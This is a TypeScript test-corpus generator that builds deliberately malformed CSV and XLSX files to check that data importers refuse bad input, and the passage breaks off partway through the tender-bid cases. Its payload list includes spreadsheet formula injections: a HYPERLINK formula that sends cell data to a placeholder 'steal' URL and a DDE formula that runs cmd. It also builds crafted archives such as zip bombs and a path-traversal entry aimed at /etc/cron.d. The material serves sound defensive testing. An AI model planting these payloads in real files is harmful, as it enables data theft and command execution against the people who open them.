/**
 * The bad-input corpus: broken files for every importer, made deterministically from valid
 * examples by documented mutations, each with what its refusal must name (the row and the
 * column or field). `buildCorpus()` returns them in memory (the tests use that); run
 * `node --import tsx test/corpus/generate.ts` to write them, with manifest.json, into
 * .cache/corpus/ (never committed) to open them by hand. Hand-made files where generation is
 * awkward live in test/corpus/files/ (listed in its manifest.json) and are added here too.
 *
 * Mutation classes (docs/reliability.md, "Bad input", lists them with counts):
 *   header        a required column missing, renamed, duplicated, or an unknown extra column
 *   required      each required field emptied on one row
 *   code          each coded field given an unknown code (and formula-looking text in a coded field)
 *   date          impossible dates (31 February, month 13, words)
 *   order         an end before its start, a record outside its period
 *   overlap       two records of one child/bed at once
 *   duplicate     duplicate keys (a URN, a child, a bid reference)
 *   number        negative, huge, fractional and non-numeric numbers, Infinity
 *   formula       text that a spreadsheet would run: = + - @ tab CR, HYPERLINK, DDE
 *   text          over-long cells, mojibake from a wrong encoding
 *   encoding      Windows-1252 bytes, UTF-16 without a byte-order mark, a BOM and nothing else
 *   shape         empty files, header-only files, blank files, unclosed quotes, truncated files
 *   archive       truncated and corrupt XLSX, zip bombs, lying sizes, too many parts, macros,
 *                 external links, encryption, ZIP64, path traversal, embedded archives, old .xls,
 *                 an XLSX that is really a CSV or a PDF
 *   json          malformed JSON, missing/unknown/mistyped fields, wrong values (contract, scenario)
 */
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { referenceData } from '../../src/reference/reference-data.ts';
import { generateOfstedList } from '../fixtures/ofsted/generate-list.ts';
import { workbookSkeleton, zip } from './zip.ts';

export type ImporterName = 'ssda903' | 'ofsted' | 'placements-standard' | 'charges' | 'tenders' | 'scenario';
export const IMPORTERS: readonly ImporterName[] = [
  'ssda903',
  'ofsted',
  'placements-standard',
  'charges',
  'tenders',
  'scenario',
];

export interface Expectation {
  /** The row the refusal must name; absent only for problems of the whole file (no row exists). */
  row?: number;
  /** The column or field the refusal must name ("file" for a problem of the whole file). */
  field: string;
  /** What the message must say (always given when the field is "file", so it says what is wrong). */
  message?: RegExp;
}

export interface CorpusFile {
  importer: ImporterName;
  /** Path under .cache/corpus/, e.g. "ofsted/csv/required-URN.csv". */
  name: string;
  /** The mutation class (see above). */
  mutation: string;
  /** SSDA903: which table this is (the other is the valid one); charges: which of the two files. */
  part?: 'header' | 'episodes' | 'events' | 'contract';
  bytes: Buffer;
  expect: Expectation;
}

const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
const read = (...p: string[]) => readFileSync(join(ROOT, ...p));

// ---------------------------------------------------------------------------------------------
// Tables and their encodings

export interface Table {
  header: string[];
  rows: string[][];
}

const clone = (t: Table): Table => ({ header: [...t.header], rows: t.rows.map((r) => [...r]) });

function colOf(t: Table, name: string): number {
  const i = t.header.indexOf(name);
  if (i < 0) throw new Error(`no column ${name} in ${t.header.join(',')}`);
  return i;
}

/** Sets cells of data row `i` (0-based). */
function setCells(t: Table, i: number, cells: Record<string, string>): Table {
  const c = clone(t);
  for (const [name, v] of Object.entries(cells)) c.rows[i]![colOf(c, name)] = v;
  return c;
}
const setCell = (t: Table, i: number, name: string, v: string) => setCells(t, i, { [name]: v });

function dropColumns(t: Table, ...names: string[]): Table {
  const keep = t.header.map((h, i) => (names.includes(h) ? -1 : i)).filter((i) => i >= 0);
  return { header: keep.map((i) => t.header[i]!), rows: t.rows.map((r) => keep.map((i) => r[i] ?? '')) };
}

function renameColumn(t: Table, name: string, to: string): Table {
  const c = clone(t);
  c.header[colOf(c, name)] = to;
  return c;
}

function duplicateColumn(t: Table, name: string): Table {
  const i = colOf(t, name);
  return { header: [...t.header, name], rows: t.rows.map((r) => [...r, r[i] ?? '']) };
}

function extraColumn(t: Table, name: string, value = 'x'): Table {
  return { header: [...t.header, name], rows: t.rows.map((r) => [...r, value]) };
}

function appendRows(t: Table, ...rows: string[][]): Table {
  const c = clone(t);
  c.rows.push(...rows.map((r) => [...r]));
  return c;
}

export function tableToCsv(t: Table, opts: { bom?: boolean } = {}): Buffer {
  const body = Papa.unparse({ fields: t.header, data: t.rows }, { newline: '\r\n' });
  return Buffer.from(`${opts.bom ? '\uFEFF' : ''}${body}\r\n`, 'utf8');
}

export async function tableToXlsx(
  t: Table,
  opts: { sheet?: string; formulas?: { row: number; column: string; formula: string }[] } = {},
): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  wb.created = new Date(0);
  wb.modified = new Date(0);
  const ws = wb.addWorksheet(opts.sheet ?? 'Sheet1');
  ws.addRow(t.header);
  for (const r of t.rows) ws.addRow(r);
  for (const f of opts.formulas ?? []) {
    ws.getCell(f.row + 2, colOf(t, f.column) + 1).value = { formula: f.formula };
  }
  return Buffer.from(await wb.xlsx.writeBuffer());
}

function parseCsv(bytes: Buffer): Table {
  const text = bytes.toString('utf8').replace(/^\uFEFF/, '');
  const rows = Papa.parse<string[]>(text.trim(), { skipEmptyLines: true }).data;
  return { header: rows[0]!, rows: rows.slice(1) };
}

/** Windows-1252 bytes for text whose only non-ASCII letters are é, £ and ’. */
function cp1252(text: string): Buffer {
  const map: Record<string, number> = { é: 0xe9, '£': 0xa3, '’': 0x92 };
  return Buffer.from([...text].map((ch) => map[ch] ?? ch.charCodeAt(0)));
}

/** The text in Windows-1252, refused at the line of its first non-ASCII character. */
function windows1252(text: string): { bytes: Buffer; expect: Expectation } {
  const at = [...text].findIndex((ch) => ch.charCodeAt(0) > 0x7f);
  return { bytes: cp1252(text), expect: file(/not UTF-8/, text.slice(0, at).split('\n').length) };
}

const utf16leNoBom = (text: string) => Buffer.from(text, 'utf16le');
const utf16leBom = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);

/** The bytes cut in the middle of the last line (as an interrupted copy leaves a file). */
function cutLastLine(bytes: Buffer, keep: (lastLine: string) => number): Buffer {
  const text = bytes.toString('utf8').replace(/\r?\n$/, '');
  const at = text.lastIndexOf('\n') + 1;
  return Buffer.from(text.slice(0, at + keep(text.slice(at))), 'utf8');
}

// ---------------------------------------------------------------------------------------------
// Formula-looking payloads (the same list the export test puts into records)

export const FORMULA_TEXTS: readonly { id: string; text: string }[] = [
  { id: 'equals', text: '=1+1' },
  { id: 'plus', text: '+1+1' },
  { id: 'minus', text: '-1+1' },
  { id: 'at', text: '@SUM(1,1)' },
  { id: 'tab', text: '\t=1+1' },
  { id: 'cr', text: '\r=1+1' },
  { id: 'hyperlink', text: '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for details")' },
  { id: 'dde', text: "=cmd|' /C calc'!A0" },
];

// ---------------------------------------------------------------------------------------------
// Archive mutations shared by every XLSX importer (they all read through src/importers/ofsted/read-table.ts)

interface ArchiveCase {
  id: string;
  bytes: Buffer;
  expect: Expectation;
}

const file = (message: RegExp, row?: number): Expectation => ({
  field: 'file',
  message,
  ...(row === undefined ? {} : { row }),
});

/** Offsets of a named entry's compressed data in a zip. */
function entryData(buf: Buffer, name: string): { start: number; length: number } {
  for (let p = 0; p + 30 < buf.length; p++) {
    if (buf.readUInt32LE(p) !== 0x04034b50) continue;
    const nameLength = buf.readUInt16LE(p + 26);
    const extra = buf.readUInt16LE(p + 28);
    if (buf.toString('utf8', p + 30, p + 30 + nameLength) !== name) continue;
    const start = p + 30 + nameLength + extra;
    let length = buf.readUInt32LE(p + 18);
    if (length === 0) {
      // exceljs writes data descriptors: the size is in the central directory.
      for (let q = buf.length - 46; q > 0; q--) {
        if (
          buf.readUInt32LE(q) === 0x02014b50 &&
          buf.toString('utf8', q + 46, q + 46 + buf.readUInt16LE(q + 28)) === name
        ) {
          length = buf.readUInt32LE(q + 20);
          break;
        }
      }
    }
    return { start, length };
  }
  throw new Error(`no entry ${name}`);
}

function archiveCases(good: Buffer, csvWithError: { bytes: Buffer; expect: Expectation }): ArchiveCase[] {
  const sheet = entryData(good, 'xl/worksheets/sheet1.xml');
  const corrupt = Buffer.from(good);
  for (let i = 0; i < 24; i++) {
    const at = sheet.start + Math.floor(sheet.length / 3) + i;
    corrupt[at] = corrupt[at]! ^ 0x5a;
  }
  const zeroedDirectory = Buffer.from(good);
  zeroedDirectory.fill(0, good.length - 200, good.length - 22);
  const garbageSheet = zip([
    ...workbookSkeleton(),
    { name: 'xl/worksheets/sheet1.xml', data: Buffer.from('<worksheet><sheetData><row><c t="s"><v>') },
  ]);
  return [
    {
      id: 'truncated-half',
      bytes: good.subarray(0, good.length >> 1),
      expect: file(/damaged or incomplete/),
    },
    { id: 'truncated-tail', bytes: good.subarray(0, good.length - 9), expect: file(/damaged or incomplete/) },
    { id: 'corrupt-sheet-data', bytes: corrupt, expect: file(/damaged|not the size it declares/) },
    { id: 'zeroed-directory', bytes: zeroedDirectory, expect: file(/damaged or incomplete/) },
    {
      id: 'ratio-bomb',
      bytes: zip([
        ...workbookSkeleton(),
        { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(8 << 20, 0x20) },
      ]),
      expect: file(/like a zip bomb/),
    },
    {
      id: 'declared-huge',
      bytes: zip([
        ...workbookSkeleton(),
        { name: 'xl/worksheets/sheet1.xml', data: Buffer.from('<worksheet/>'), declaredSize: 0xfff00000 },
      ]),
      expect: file(/expands to \d+ MB/),
    },
    {
      id: 'lying-size',
      bytes: zip([
        ...workbookSkeleton(),
        {
          name: 'xl/worksheets/sheet1.xml',
          data: Buffer.from(Array.from({ length: 64 * 1024 }, (_, i) => 0x41 + (i % 13))),
          declaredSize: 1_000,
        },
      ]),
      expect: file(/larger than it declares/),
    },
    {
      id: 'too-many-parts',
      bytes: zip([
        ...workbookSkeleton(),
        ...Array.from({ length: 5_000 }, (_, i) => ({
          name: `xl/media/p${i}.bin`,
          data: Buffer.from(`${i}`),
        })),
      ]),
      expect: file(/parts; at most \d+ are accepted/),
    },
    {
      id: 'macros',
      bytes: zip([...workbookSkeleton(), { name: 'xl/vbaProject.bin', data: Buffer.from('Sub AutoOpen()') }]),
      expect: file(/macros/),
    },
    {
      id: 'external-links',
      bytes: zip([
        ...workbookSkeleton(),
        { name: 'xl/externalLinks/externalLink1.xml', data: Buffer.from('<externalLink/>') },
      ]),
      expect: file(/links to other files/),
    },
    {
      id: 'encrypted-entry',
      bytes: zip([
        ...workbookSkeleton(),
        { name: 'xl/worksheets/sheet1.xml', data: Buffer.from('<worksheet/>'), encrypted: true },
      ]),
      expect: file(/encrypted/),
    },
    {
      id: 'zip64',
      bytes: zip(workbookSkeleton(), { zip64Locator: true }),
      expect: file(/ZIP64/),
    },
    {
      id: 'path-traversal',
      bytes: zip([
        ...workbookSkeleton(),
        { name: '../../etc/cron.d/x', data: Buffer.from('* * * * * root') },
      ]),
      expect: file(/damaged/),
    },
    {
      id: 'embedded-archive',
      bytes: zip([
        ...workbookSkeleton(),
        {
          name: 'xl/embeddings/oleObject1.bin',
          data: zip([{ name: 'bomb.bin', data: Buffer.alloc(1 << 20) }]),
          stored: true,
        },
      ]),
      expect: file(/embeds|another archive/),
    },
    {
      id: 'not-a-workbook',
      bytes: zip([{ name: 'readme.txt', data: Buffer.from('just a zip') }]),
      expect: file(/not an Excel workbook/),
    },
    {
      id: 'unsupported-method',
      bytes: (() => {
        const z = zip([
          ...workbookSkeleton(),
          { name: 'xl/styles.xml', data: Buffer.from('<styleSheet/>'), stored: true },
        ]);
        // Method 12 (bzip2) in the central directory entry of the last part.
        const cd = z.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
        z.writeUInt16LE(12, cd + 10);
        return z;
      })(),
      expect: file(/unsupported compression/),
    },
    {
      id: 'garbage-sheet-xml',
      bytes: garbageSheet,
      expect: file(/could not be read|no .*head|no rows|empty/i),
    },
    {
      id: 'old-xls',
      bytes: Buffer.concat([
        Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
        Buffer.alloc(504),
      ]),
      expect: file(/old-style \.xls/),
    },
    {
      id: 'really-a-pdf',
      bytes: Buffer.concat([
        Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n', 'latin1'),
        Buffer.alloc(64),
        Buffer.from('%%EOF'),
      ]),
      expect: file(/not UTF-8|binary data/),
    },
    { id: 'really-a-csv', bytes: csvWithError.bytes, expect: csvWithError.expect },
  ];
}

// ---------------------------------------------------------------------------------------------
// Building the corpus

class Corpus {
  readonly files: CorpusFile[] = [];
  add(
    importer: ImporterName,
    name: string,
    mutation: string,
    bytes: Buffer,
    expect: Expectation,
    part?: CorpusFile['part'],
  ) {
    if (this.files.some((f) => f.name === `${importer}/${name}`))
      throw new Error(`duplicate corpus name ${name}`);
    this.files.push({
      importer,
      name: `${importer}/${name}`,
      mutation,
      bytes,
      expect,
      ...(part ? { part } : {}),
    });
  }
}

const slug = (s: string) =>
  s
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-|-$/g, '')
    .slice(0, 40);

interface TableMutation {
  id: string;
  mutation: string;
  table: Table;
  expect: Expectation;
  /** Also written as XLSX (for importers that read XLSX): default true. */
  xlsx?: boolean;
}

/** Writes table mutations as CSV, and as XLSX where the importer reads it. */
async function addTables(
  c: Corpus,
  importer: ImporterName,
  muts: readonly TableMutation[],
  opts: { xlsx: boolean; part?: CorpusFile['part']; csvName?: string },
) {
  for (const m of muts) {
    const dir = opts.part ? `${opts.part}/` : opts.xlsx ? 'csv/' : '';
    c.add(importer, `${dir}${m.id}.csv`, m.mutation, tableToCsv(m.table), m.expect, opts.part);
    if (opts.xlsx && m.xlsx !== false) {
      c.add(importer, `xlsx/${m.id}.xlsx`, m.mutation, await tableToXlsx(m.table), m.expect);
    }
  }
}

/** Byte-level CSV shapes every CSV importer must refuse. */
function shapeCases(
  c: Corpus,
  importer: ImporterName,
  cases: { id: string; mutation?: string; bytes: Buffer; expect: Expectation }[],
  part?: CorpusFile['part'],
) {
  for (const k of cases) {
    const dir = part ? `${part}/` : '';
    c.add(importer, `${dir}${k.id}`, k.mutation ?? 'shape', k.bytes, k.expect, part);
  }
}

// ----- Ofsted provider lists -----------------------------------------------------------------

async function ofsted(c: Corpus) {
  const list = generateOfstedList('la-list', 5, 4242, referenceData());
  const base: Table = { header: list.header, rows: list.rows };
  const row = (i: number) => i + 2;
  const m: TableMutation[] = [];
  const push = (id: string, mutation: string, table: Table, expect: Expectation, xlsx = true) =>
    m.push({ id, mutation, table, expect, xlsx });

  push('header-missing-URN', 'header', dropColumns(base, 'URN'), file(/URN heading/, 1));
  push('header-renamed-URN', 'header', renameColumn(base, 'URN', 'Ref no'), file(/URN heading/, 1));
  push('header-missing-location', 'header', dropColumns(base, 'Local authority', 'Setting postcode'), {
    row: 1,
    field: 'Local authority',
  });
  push('header-duplicate-postcode', 'header', duplicateColumn(base, 'Setting postcode'), {
    row: 1,
    field: 'Setting postcode',
  });
  push('header-duplicate-URN', 'header', duplicateColumn(base, 'URN'), { row: 1, field: 'URN' });
  push('header-duplicate-name', 'header', duplicateColumn(base, 'Provider name'), {
    row: 1,
    field: 'Provider name',
  });

  push('required-URN', 'required', setCell(base, 1, 'URN', ''), { row: row(1), field: 'URN' });
  push(
    'required-location',
    'required',
    setCells(base, 2, { 'Local authority': '', 'Setting postcode': '' }),
    { row: row(2), field: 'Local authority' },
  );
  const codes: [string, string][] = [
    ['Overall effectiveness', 'Excellent'],
    ['Registration status', 'Pending'],
    ['Local authority', 'Atlantis'],
    ['Emotional and behavioural difficulties', 'maybe'],
    ['Mental disorders', 'Yes please'],
    ['Setting postcode', 'ZZ9 9ZZ'],
    ['URN', 'SC12'],
    ['URN', 'XXXXXXX'],
    ['URN', 'SC1234567'],
  ];
  for (const [k, [col, v]] of codes.entries()) {
    push(`code-${slug(col)}-${k}`, 'code', setCell(base, k % 5, col, v), { row: row(k % 5), field: col });
  }
  const dates = ['Registration date', 'Deregistration date', 'Date of last full inspection'];
  for (const [k, col] of dates.entries()) {
    for (const [j, v] of ['31/02/2024', '2024-13-01', 'last Tuesday', '00/00/0000'].entries()) {
      push(`date-${slug(col)}-${j}`, 'date', setCell(base, (k + j) % 5, col, v), {
        row: row((k + j) % 5),
        field: col,
      });
    }
  }
  push(
    'order-closed-before-registered',
    'order',
    setCells(base, 3, {
      'Registration date': '01/06/2015',
      'Deregistration date': '01/06/2010',
      'Registration status': 'Closed',
    }),
    { row: row(3), field: 'Deregistration date' },
  );
  for (const [j, v] of ['-3', 'three', '2.5', '1e3', '999999999', 'NaN', 'Infinity', '0x10'].entries()) {
    push(`number-places-${j}`, 'number', setCell(base, j % 5, 'Number of registered places', v), {
      row: row(j % 5),
      field: 'Number of registered places',
    });
  }
  push('duplicate-row', 'duplicate', appendRows(base, base.rows[1]!), { row: row(5), field: 'URN' });
  push(
    'duplicate-urn-lower-case',
    'duplicate',
    appendRows(
      base,
      [...base.rows[2]!].map((v, i) => (i === colOf(base, 'URN') ? v.toLowerCase() : v)),
    ),
    { row: row(5), field: 'URN' },
  );
  for (const [k, f] of FORMULA_TEXTS.entries()) {
    const col = k % 2 === 0 ? 'Provider name' : 'Owner name';
    push(`formula-${f.id}`, 'formula', setCell(base, k % 5, col, f.text), { row: row(k % 5), field: col });
  }
  push('text-overlong-name', 'text', setCell(base, 4, 'Provider name', 'x'.repeat(2_001)), {
    row: row(4),
    field: 'Provider name',
  });
  await addTables(c, 'ofsted', m, { xlsx: true });

  // XLSX only: a real formula cell.
  c.add(
    'ofsted',
    'xlsx/formula-cell.xlsx',
    'formula',
    await tableToXlsx(base, {
      formulas: [{ row: 2, column: 'Provider name', formula: 'HYPERLINK("http://x.invalid","x")' }],
    }),
    { row: row(2), field: 'Provider name' },
  );

  const csvText = tableToCsv(base).toString('utf8');
  const lines = csvText.split('\r\n');
  shapeCases(c, 'ofsted', [
    { id: 'empty.csv', bytes: Buffer.alloc(0), expect: file(/empty/) },
    { id: 'bom-only.csv', bytes: Buffer.from([0xef, 0xbb, 0xbf]), expect: file(/no rows|empty/) },
    { id: 'blank-lines.csv', bytes: Buffer.from('\r\n\r\n,,,\r\n'), expect: file(/no rows|empty/) },
    { id: 'header-only.csv', bytes: Buffer.from(`${lines[0]}\r\n`), expect: file(/no providers/, 1) },
    {
      id: 'windows-1252.csv',
      mutation: 'encoding',
      ...windows1252(tableToCsv(setCell(base, 2, 'Provider name', 'Café £ House’s')).toString('utf8')),
    },
    {
      id: 'utf-16-no-bom.csv',
      mutation: 'encoding',
      bytes: utf16leNoBom(csvText),
      expect: file(/binary data|not UTF-8/),
    },
    {
      id: 'utf-16-bom-bad-rating.csv',
      mutation: 'encoding',
      bytes: utf16leBom(tableToCsv(setCell(base, 1, 'Overall effectiveness', 'Superb')).toString('utf8')),
      expect: { row: row(1), field: 'Overall effectiveness' },
    },
    {
      id: 'utf-8-bom-bad-urn.csv',
      mutation: 'encoding',
      bytes: tableToCsv(setCell(base, 3, 'URN', 'ABC'), { bom: true }),
      expect: { row: row(3), field: 'URN' },
    },
    {
      id: 'unclosed-quote.csv',
      bytes: Buffer.from(lines.map((l, i) => (i === 3 ? l.replace(',', ',"') : l)).join('\r\n')),
      expect: file(/never closed/, 4),
    },
    {
      id: 'truncated-mid-row.csv',
      bytes: cutLastLine(tableToCsv(base), (l) => Math.floor(l.length / 3)),
      expect: { row: row(4), field: 'file', message: /cut short/ },
    },
    {
      id: 'semicolon-delimited.csv',
      bytes: Buffer.from(Papa.unparse({ fields: base.header, data: base.rows }, { delimiter: ';' })),
      expect: file(/URN heading/, 1),
    },
  ]);

  const good = await tableToXlsx(base, { sheet: 'Providers' });
  for (const a of archiveCases(good, {
    bytes: tableToCsv(setCell(base, 2, 'URN', 'SC-BAD')),
    expect: { row: row(2), field: 'URN' },
  })) {
    c.add('ofsted', `archive/${a.id}.xlsx`, 'archive', a.bytes, a.expect);
  }
}

// ----- Placements Data Standard -------------------------------------------------------------

export const PDS_TODAY = '2026-03-02';

async function placementsStandard(c: Corpus) {
  const base = parseCsv(read('docs/examples/placements-standard/referrals-and-placements.csv'));
  const row = (i: number) => i + 2;
  const placed = base.rows.findIndex((r) => r[colOf(base, 'cost_total_weekly')] !== '');
  const unplaced = base.rows.findIndex((r) => r[colOf(base, 'placement_type')] === '');
  const m: TableMutation[] = [];
  const push = (id: string, mutation: string, table: Table, expect: Expectation, xlsx = true) =>
    m.push({ id, mutation, table, expect, xlsx });

  // Every column missing (the template's 44) and a few renamed, duplicated or added.
  for (const [k, col] of base.header.entries()) {
    // Without child_ID there is no header to find at all (the message says what it looked for).
    const expect =
      col === 'child_ID'
        ? file(/no column is headed child_ID/)
        : file(new RegExp(`missing.*\\b${col}\\b`), 1);
    push(`header-missing-${slug(col)}`, 'header', dropColumns(base, col), expect, k % 4 === 0);
  }
  push('header-renamed-child-id', 'header', renameColumn(base, 'child_ID', 'child'), file(/child_ID/));
  push('header-renamed-pets', 'header', renameColumn(base, 'can_child_live_with_pets', 'pets'), {
    row: 1,
    field: 'pets',
  });
  push('header-duplicate-dol', 'header', duplicateColumn(base, 'dol'), { row: 1, field: 'dol' });
  push('header-extra-notes', 'header', extraColumn(base, 'notes'), { row: 1, field: 'notes' });

  const required = [
    'child_ID',
    'when_placement_is_needed_by',
    'is_preferred_location_local',
    'communication_language_learning_needs',
    'specific_communication_and_language_requirements',
    'cultural_needs',
    'who_can_the_child_be_cared_for_alongside',
    'can_child_live_with_pets',
    'foster_care_suitability',
    'residential_care_suitability',
    'supported_accommodation',
    ...base.header.filter((h) => h.startsWith('risk_to_')),
    'Date_entry_referral',
  ];
  for (const [k, col] of required.entries()) {
    const i = k % base.rows.length;
    push(
      `required-${slug(col)}`,
      'required',
      setCell(base, i, col, ''),
      { row: row(i), field: col },
      k % 3 === 0,
    );
  }
  for (const col of [
    'placement_location',
    'preferrability_of_placement_location',
    'education_continuity',
    'provider_URN',
    'how_many_siblings_were_placed_together',
    'placement_type',
    'name_of_officer_placement',
  ]) {
    push(
      `required-placement-${slug(col)}`,
      'required',
      setCell(base, placed, col, ''),
      {
        row: row(placed),
        field: col,
      },
      false,
    );
  }
  const coded = [
    'when_placement_is_needed_by',
    'is_preferred_location_local',
    'communication_language_learning_needs',
    'specific_communication_and_language_requirements',
    'adaptation_to_the_home',
    'cultural_needs',
    'who_can_the_child_be_cared_for_alongside',
    'can_child_live_with_pets',
    'additional_support',
    'dol',
    'foster_care_suitability',
    'residential_care_suitability',
    'supported_accommodation',
    'risk_to_child_self_harm',
    'risk_to_others_fire_setting',
    'placement_type',
    'education_continuity',
  ];
  for (const [k, col] of coded.entries()) {
    const i = col === 'placement_type' || col === 'education_continuity' ? placed : k % base.rows.length;
    push(
      `code-${slug(col)}`,
      'code',
      setCell(base, i, col, 'Maybe'),
      { row: row(i), field: col },
      k % 3 === 0,
    );
  }
  push('code-formula-in-code', 'code', setCell(base, 0, 'cultural_needs', '@SUM(1,1)'), {
    row: row(0),
    field: 'cultural_needs',
  });
  push(
    'code-out-of-la-reason-when-local',
    'code',
    setCells(base, unplaced, {
      is_preferred_location_local: 'Yes',
      out_of_LA_reason: 'Specialist provision',
    }),
    { row: row(unplaced), field: 'out_of_LA_reason' },
  );
  push('code-provider-urn', 'code', setCell(base, placed, 'provider_URN', 'SC12'), {
    row: row(placed),
    field: 'provider_URN',
  });
  push('code-full-postcode', 'code', setCell(base, placed, 'placement_location', 'UB4 8AB'), {
    row: row(placed),
    field: 'placement_location',
  });
  for (const [j, v] of ['31/02/2026', '2026-02-30', 'next week', '12', '2027-01-01', '99999999'].entries()) {
    push(
      `date-referral-${j}`,
      'date',
      setCell(base, j % base.rows.length, 'Date_entry_referral', v),
      {
        row: row(j % base.rows.length),
        field: 'Date_entry_referral',
      },
      j % 2 === 0,
    );
  }
  push('date-placement', 'date', setCell(base, placed, 'date_entry_placement', '30/02/2026'), {
    row: row(placed),
    field: 'date_entry_placement',
  });
  for (const [j, v] of ['-1', 'two', '1e3', '99', '1.5'].entries()) {
    push(
      `number-siblings-${j}`,
      'number',
      setCell(base, j % base.rows.length, 'number_of_siblings_to_place_with', v),
      {
        row: row(j % base.rows.length),
        field: 'number_of_siblings_to_place_with',
      },
      j % 2 === 0,
    );
  }
  for (const [j, v] of ['-5', 'abc', '1e999', '99999999999999999999', '£-10', 'Infinity'].entries()) {
    push(
      `number-cost-${j}`,
      'number',
      setCell(base, placed, 'cost_total_weekly', v),
      {
        row: row(placed),
        field: 'cost_total_weekly',
      },
      j % 2 === 0,
    );
  }
  push('number-cost-parts-exceed-total', 'number', setCell(base, placed, 'cost_core_weekly', '99999'), {
    row: row(placed),
    field: 'cost_total_weekly',
  });
  push('order-cost-without-placement', 'order', setCells(base, unplaced, { cost_total_weekly: '4000' }), {
    row: row(unplaced),
    field: 'cost_total_weekly',
  });
  push('duplicate-child', 'duplicate', appendRows(base, base.rows[1]!), {
    row: row(base.rows.length),
    field: 'child_ID',
  });
  push('formula-child-id', 'formula', setCell(base, 2, 'child_ID', '=1+1'), {
    row: row(2),
    field: 'child_ID',
  });
  push(
    'formula-support-other',
    'formula',
    setCells(base, 0, {
      additional_support: 'Other',
      additional_support_other: '=HYPERLINK("http://x.invalid","y")',
    }),
    { row: row(0), field: 'additional_support_other' },
  );
  push('formula-officer', 'formula', setCell(base, 1, 'name_of_officer_referral', "=cmd|' /C calc'!A0"), {
    row: row(1),
    field: 'name_of_officer_referral',
  });
  push('text-overlong-officer', 'text', setCell(base, 3, 'name_of_officer_referral', 'O'.repeat(101)), {
    row: row(3),
    field: 'name_of_officer_referral',
  });
  await addTables(c, 'placements-standard', m, { xlsx: true });

  const csvText = tableToCsv(base).toString('utf8');
  const lines = csvText.split('\r\n');
  shapeCases(c, 'placements-standard', [
    { id: 'empty.csv', bytes: Buffer.alloc(0), expect: file(/empty/) },
    { id: 'bom-only.csv', bytes: Buffer.from([0xef, 0xbb, 0xbf]), expect: file(/header|no rows|empty/) },
    { id: 'header-only.csv', bytes: Buffer.from(`${lines[0]}\r\n`), expect: file(/no rows/, 1) },
    {
      id: 'title-only.csv',
      bytes: Buffer.from('Placements Data Standard 2026\r\n'),
      expect: file(/child_ID/),
    },
    {
      id: 'windows-1252.csv',
      mutation: 'encoding',
      ...windows1252(
        tableToCsv(setCell(base, 1, 'name_of_officer_referral', 'José O’Neill')).toString('utf8'),
      ),
    },
    {
      id: 'utf-16-no-bom.csv',
      mutation: 'encoding',
      bytes: utf16leNoBom(csvText),
      expect: file(/binary data|not UTF-8/),
    },
    {
      id: 'utf-16-bom-bad-pets.csv',
      mutation: 'encoding',
      bytes: utf16leBom(
        tableToCsv(setCell(base, 2, 'can_child_live_with_pets', 'Dogs only')).toString('utf8'),
      ),
      expect: { row: row(2), field: 'can_child_live_with_pets' },
    },
    {
      id: 'unclosed-quote.csv',
      bytes: Buffer.from(lines.map((l, i) => (i === 2 ? l.replace(',', ',"') : l)).join('\r\n')),
      expect: file(/never closed/, 3),
    },
    {
      id: 'truncated-mid-row.csv',
      bytes: cutLastLine(tableToCsv(base), (l) => Math.floor(l.length / 2)),
      expect: { row: row(base.rows.length - 1), field: 'file', message: /cut short/ },
    },
  ]);
  const good = await tableToXlsx(base, { sheet: 'Data collection' });
  for (const a of archiveCases(good, {
    bytes: tableToCsv(setCell(base, 1, 'dol', 'Perhaps')),
    expect: { row: row(1), field: 'dol' },
  })) {
    c.add('placements-standard', `archive/${a.id}.xlsx`, 'archive', a.bytes, a.expect);
  }
}

// ----- Tender bids ---------------------------------------------------------------------------

async function tenders(c: Corpus) {
  const base = parseCsv(read('docs/examples/tenders/bids.csv'));
  const row = (i: number) => i + 2;
  const q1 = base.header.find((h) => h.startsWith('quality: Safeguarding'))!;
  const qualities = base.header.filter((h) => h.startsWith('quality'));
  const m: TableMutation[] = [];
  const push = (id: string, mutation: string, table: Table, expect: Expectation, xlsx = true) =>
    m.push({ id, mutation, table, expect, xlsx });

  for (const col of ['bid_ref', 'provider', 'home', 'beds', 'weekly_price']) {
    push(`header-missing-${col}`, 'header', dropColumns(base, col), { row: 1, field: col });
  }
  push('header-missing-quality', 'header', dropColumns(base, ...qualities), { row: 1, field: 'quality' });
  push('header-renamed-provider', 'header', renameColumn(base, 'provider', 'supplier'), {
    row: 1,
    field: 'supplier',
  });
  push('header-duplicate-home', 'header', duplicateColumn(base, 'home'), { row: 1, field: 'home' });
  push('header-duplicate-quality', 'header', duplicateColumn(base, q1), { row: 1, field: q1 });
  push('header-extra-notes', 'header', extraColumn(base, 'notes'), { row: 1, field: 'notes' });
  push('header-quality-without-weight', 'header', renameColumn(base, q1, 'quality: Safeguarding'), {
    row: 1,
    field: 'quality: Safeguarding',
  });
  for (const [k, col] of ['bid_ref', 'provider', 'home', 'beds', 'weekly_price', q1].entries()) {
    push(`required-${slug(col)}`, 'required', setCell(base, (k + 2) % base.rows.length, col, ''), {
      row: row((k + 2) % base.rows.length),
      field: col,
    });
  }
  for (const [j, v] of ['-1', '0', '2.5', 'three', '1e3', '99999999999999999999'].entries()) {
    push(
      `number-beds-${j}`,
      'number',
      setCell(base, 3, 'beds', v),
      { row: row(3), field: 'beds' },
      j % 2 === 0,
    );
  }
  for (const [j, v] of ['-100', '0', 'abc', '£', '99999999999999999999', '1e6', 'Infinity'].entries()) {
    push(
      `number-price-${j}`,
      'number',
      setCell(base, 4, 'weekly_price', v),
      { row: row(4), field: 'weekly_price' },
      j % 2 === 0,
    );
  }
  for (const [j, v] of ['6', '-1', 'x', '4.123', 'NaN'].entries()) {
    push(`number-mark-${j}`, 'number', setCell(base, 2, q1, v), { row: row(2), field: q1 }, j % 2 === 0);
  }
